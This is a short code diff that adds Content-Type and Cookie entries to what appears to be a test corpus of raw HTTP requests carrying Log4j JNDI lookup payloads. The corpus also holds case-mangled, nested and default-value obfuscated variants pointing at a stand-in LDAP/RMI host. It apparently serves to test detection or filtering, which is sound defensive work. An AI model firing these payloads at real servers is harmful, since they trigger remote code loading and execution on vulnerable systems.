@@ -44,6 +44,8 @@ def chunked(body: bytes, size: int, extension: bytes = b"") -> bytes:
 FORMS = {
     "User-Agent": b"GET / HTTP/1.1" + HOST + b"User-Agent: " + LOOKUP + b"\r\n\r\n",
     "unusual header field": b"GET / HTTP/1.1" + HOST + b"X-Api-Version: " + LOOKUP + b"\r\n\r\n",
+    "Content-Type": b"GET / HTTP/1.1" + HOST + b"Content-Type: " + LOOKUP + b"\r\n\r\n",
+    "Cookie": b"GET / HTTP/1.1" + HOST + b"Cookie: lang=en; id=" + LOOKUP + b"\r\n\r\n",
     "case of field and scheme": b"GET / HTTP/1.1" + HOST + b"uSER-aGENT: ${JnDi:LDAP://203.0.113.9/a}\r\n\r\n",
     "nested look-ups": b"GET / HTTP/1.1" + HOST + b"User-Agent: ${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}\r\n\r\n",
     "default values": b"GET / HTTP/1.1" + HOST + b"User-Agent: ${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://203.0.113.9/a}\r\n\r\n",
